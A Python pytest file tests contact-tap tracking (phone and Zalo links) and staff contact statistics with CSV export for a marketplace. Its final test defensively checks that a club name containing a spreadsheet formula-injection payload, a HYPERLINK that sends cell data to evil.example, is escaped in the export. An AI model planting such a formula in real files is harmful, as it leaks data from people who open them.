"""Contacts that leave the platform: a signed-in visitor sees a club's phone and Zalo as links that
count a tap (POST /contact-events); an anonymous one is asked to sign in. Staff see, for a period
of days in Việt Nam, how many threads, messages, calls and Zalo taps there were and how many
buyer–seller pairs were in touch, on the page and as CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from marketplace.messaging.models import ContactEvent, Conversation, ConversationMessage
from tests.clients import app_session, post, text_of
from tests.factories import make_listing
from tests.integration.messaging.support import CLUB_PHONE, browser, say, start_thread


def events(app) -> list[ContactEvent]:
    with app_session(app) as session:
        return list(session.scalars(select(ContactEvent).order_by(ContactEvent.id)))


# -- taps ------------------------------------------------------------------------------------------------

def test_a_tap_on_the_phone_or_zalo_link_is_recorded(app, people):
    client = browser(app, people.buyer)
    response = post(client, "/contact-events", {"org_id": people.club.id, "channel": "phone",
                                                "listing_id": people.listing.id})
    assert response.status_code == 204 and response.get_data() == b""
    assert post(client, "/contact-events", {"org_id": people.club.id, "channel": "zalo"}).status_code == 204
    phone, zalo = events(app)
    assert (phone.channel, phone.user_id, phone.from_org_id, phone.to_org_id, phone.listing_id) == (
        "phone", people.buyer.id, people.buyer_org.id, people.club.id, people.listing.id)
    assert (zalo.channel, zalo.listing_id, zalo.demand_id) == ("zalo", None, None)


def test_a_tap_by_someone_without_an_organisation_is_still_counted(app, people):
    assert post(browser(app, people.loner), "/contact-events", {"org_id": people.club.id, "channel": "zalo"}) \
        .status_code == 204
    [event] = events(app)
    assert (event.user_id, event.from_org_id, event.to_org_id) == (people.loner.id, None, people.club.id)


@pytest.mark.parametrize("data", [
    {"channel": "email"},
    {"channel": ""},
    {"org_id": "999999"},
    {"org_id": "abc"},
])
def test_a_bad_tap_is_refused(app, people, data):
    form = {"org_id": people.club.id, "channel": "phone", **data}
    assert post(browser(app, people.buyer), "/contact-events", form).status_code == 400
    assert events(app) == []


def test_a_tap_needs_the_csrf_token_and_a_signed_in_user(app, people):
    client = browser(app, people.buyer)
    assert client.post("/contact-events", data={"org_id": people.club.id, "channel": "phone"}).status_code == 400
    response = post(browser(app), "/contact-events", {"org_id": people.club.id, "channel": "phone"})
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert events(app) == []


def test_the_listing_page_shows_phone_and_zalo_links_to_signed_in_users_only(app, people):
    page = text_of(browser(app, people.buyer).get(f"/listings/{people.listing.id}"))
    call = re.search(r'<a [^>]*href="tel:' + CLUB_PHONE + r'"[^>]*>', page)
    assert call, "no call link"
    assert 'data-contact="phone"' in call.group(0) and f'data-org="{people.club.id}"' in call.group(0)
    assert f'data-listing="{people.listing.id}"' in call.group(0)
    zalo = re.search(r'<a [^>]*href="https://zalo\.me/' + CLUB_PHONE + r'"[^>]*>', page)
    assert zalo, "no Zalo link"
    assert 'data-contact="zalo"' in zalo.group(0) and f'data-org="{people.club.id}"' in zalo.group(0)

    anonymous = text_of(browser(app).get(f"/listings/{people.listing.id}"))
    assert "tel:" not in anonymous and "zalo.me" not in anonymous and CLUB_PHONE not in anonymous
    assert "Sign in to send a message, or to see phone and Zalo." in anonymous
    assert re.search(r'href="/login\?next=[^"]*listings', anonymous)


def test_the_club_page_counts_taps_too(app, people):
    page = text_of(browser(app, people.buyer).get(f"/orgs/{people.club.id}"))
    assert re.search(r'href="tel:' + CLUB_PHONE + r'"[^>]*data-contact="phone"', page)


# -- staff counts ------------------------------------------------------------------------------------------

def at(*parts) -> datetime:
    return datetime(*parts, tzinfo=UTC)


@pytest.fixture
def october(app, people):
    """Contacts around October 2026 (days in Việt Nam, UTC+7), with their times set by hand."""
    with app_session(app):
        other_listing = make_listing(people.club, "bưởi", quantity="300")
        old_listing = make_listing(people.other_club, "dừa", quantity="900")
    inside = start_thread(app, people.buyer, listing_id=people.listing.id)  # B → club
    say(app, people.chair, inside.id, "Còn hàng")
    second = start_thread(app, people.other_buyer, "Bưởi?", listing_id=other_listing.id)  # another buyer → club
    before = start_thread(app, people.buyer, "Dừa?", listing_id=old_listing.id)  # B → other club, in September
    with app_session(app) as session:
        times = {inside.id: at(2026, 10, 3, 2, 0), second.id: at(2026, 10, 31, 16, 30),  # 23:30 on 31/10
                 before.id: at(2026, 9, 30, 16, 30)}  # 23:30 on 30/09
        for conversation_id, when in times.items():
            session.get(Conversation, conversation_id).created_at = when
            for message in session.scalars(select(ConversationMessage)
                                           .where(ConversationMessage.conversation_id == conversation_id)):
                message.created_at = when
        taps = [
            ("phone", people.buyer, people.buyer_org, people.club, at(2026, 9, 30, 17, 30)),  # 00:30 on 1/10: in
            ("phone", people.buyer, people.buyer_org, people.club, at(2026, 10, 15, 3, 0)),
            ("zalo", people.loner, None, people.club, at(2026, 10, 20, 3, 0)),  # a person without an organisation
            ("zalo", people.other_seller, people.other_club, people.club, at(2026, 10, 31, 17, 30)),  # 1/11: out
            ("phone", people.other_buyer, people.other_org, people.other_club, at(2026, 9, 30, 16, 59)),  # out
        ]
        for channel, user, from_org, to_org, when in taps:
            session.add(ContactEvent(channel=channel, user_id=user.id, from_org_id=from_org.id if from_org else None,
                                     to_org_id=to_org.id, created_at=when))
        session.commit()


def test_staff_count_the_contacts_of_a_period(app, people, october):
    page = text_of(browser(app, people.staff).get("/admin/contacts?from=2026-10-01&to=31/10/2026"))

    def stat(testid: str) -> int:
        return int(re.search(rf'data-testid="{testid}">(\d+)<', page).group(1))

    assert stat("conversations") == 2
    assert stat("phone-taps") == 2  # the tap at 00:30 on 1 October counts, the one at 23:59 on 30/09 not
    assert stat("zalo-taps") == 1
    # The supermarket and the other buyer with the club by thread, the person without an organisation by Zalo.
    assert stat("pairs") == 3
    assert re.search(r"<dt>Messages</dt><dd>3</dd>", page)
    assert re.search(rf"<th scope=\"row\">{re.escape(people.club.name)}</th><td>2</td><td>2</td><td>1</td>", page)
    assert people.other_club.name not in page


def test_staff_download_the_counts_as_csv(app, people, october):
    response = browser(app, people.staff).get("/admin/contacts?from=01/10/2026&to=2026-10-31&format=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=contacts-2026-10-01-2026-10-31.csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["seller", "conversations", "phone_taps", "zalo_taps"]
    assert rows[1] == [people.club.name, "2", "2", "1"]
    totals = {row[0]: row[1] for row in rows if len(row) == 2}
    assert totals == {"conversations": "2", "messages": "3", "phone_taps": "2", "zalo_taps": "1", "pairs": "3",
                      "sellers_reached": "1"}
    assert ["period", "2026-10-01", "2026-10-31"] in rows


def test_a_september_period_counts_septembers_contacts(app, people, october):
    response = browser(app, people.staff).get("/admin/contacts?from=2026-09-01&to=2026-09-30&format=csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    totals = {row[0]: row[1] for row in rows if len(row) == 2}
    assert totals == {"conversations": "1", "messages": "1", "phone_taps": "1", "zalo_taps": "0", "pairs": "2",
                      "sellers_reached": "1"}


def test_a_period_given_backwards_is_swapped(app, people, october):
    page = text_of(browser(app, people.staff).get("/admin/contacts?from=2026-10-31&to=2026-10-01"))
    assert "The end is before the start; we swapped them." in page
    assert re.search(r'data-testid="conversations">2<', page)


@pytest.mark.parametrize("who", ["buyer", "chair", "loner"])
def test_only_staff_see_the_counts(app, people, who):
    client = browser(app, getattr(people, who))
    assert client.get("/admin/contacts").status_code == 403
    assert client.get("/admin/contacts?format=csv").status_code == 403


def test_admins_see_the_counts(app, people):
    assert browser(app, people.admin).get("/admin/contacts").status_code == 200


def test_a_name_that_is_a_formula_is_written_as_text(app, people, october):
    """Issue #14: a club named like a spreadsheet formula landed raw in the staff CSV."""
    from marketplace.accounts.models import Organization
    from tests.clients import app_session

    formula = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'
    with app_session(app) as session:
        session.get(Organization, people.club.id).name = formula
        session.commit()
    response = browser(app, people.staff).get("/admin/contacts?from=01/10/2026&to=2026-10-31&format=csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][0] == "'" + formula
